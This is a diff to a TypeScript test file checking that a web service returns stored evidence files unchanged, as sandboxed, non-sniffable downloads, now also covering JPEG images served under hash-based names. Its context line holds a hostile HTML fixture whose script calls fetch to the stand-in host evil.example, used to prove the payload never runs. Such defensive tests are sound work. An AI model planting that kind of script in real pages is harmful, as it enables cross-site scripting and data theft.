@@ -16,7 +16,10 @@ const hostile = Buffer.from('<!doctype html><script>fetch("https://evil.example"
 function assertNeverRuns({ headers }: Answer): void {
   assert.match(String(headers['content-security-policy']), /^sandbox; default-src 'none'/);
   assert.match(String(headers['content-disposition']), /^attachment; filename="[\w.-]+"$/);
-  assert.match(String(headers['content-type']), /^(application\/octet-stream|text\/plain; charset=utf-8)$/);
+  assert.match(
+    String(headers['content-type']),
+    /^(application\/octet-stream|image\/jpeg|text\/plain; charset=utf-8)$/,
+  );
   assert.equal(headers['x-content-type-options'], 'nosniff');
   assert.equal(headers['content-encoding'], undefined, 'the bytes come as they are');
 }
@@ -28,6 +31,16 @@ test('stored bytes come back byte for byte, as a download that no browser runs',
   assert.equal(answer.status, 200);
   assert.deepEqual(answer.bytes, hostile);
   assert.equal(sha256(answer.bytes), stored.sha256);
+  assertNeverRuns(answer);
+});
+
+test('a picture of a page comes as a file to keep, by a name that opens, and is never shown here', async (t) => {
+  const { context, get } = await openTestWeb(t);
+  const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 1, 2]);
+  const stored = await context.archive.blobs.put(jpeg);
+  const answer = await get(`/evidence/bodies/${stored.sha256}`);
+  assert.deepEqual(answer.bytes, jpeg);
+  assert.match(String(answer.headers['content-disposition']), /^attachment; filename="[0-9a-f]{64}\.jpg"$/);
   assertNeverRuns(answer);
 });
 
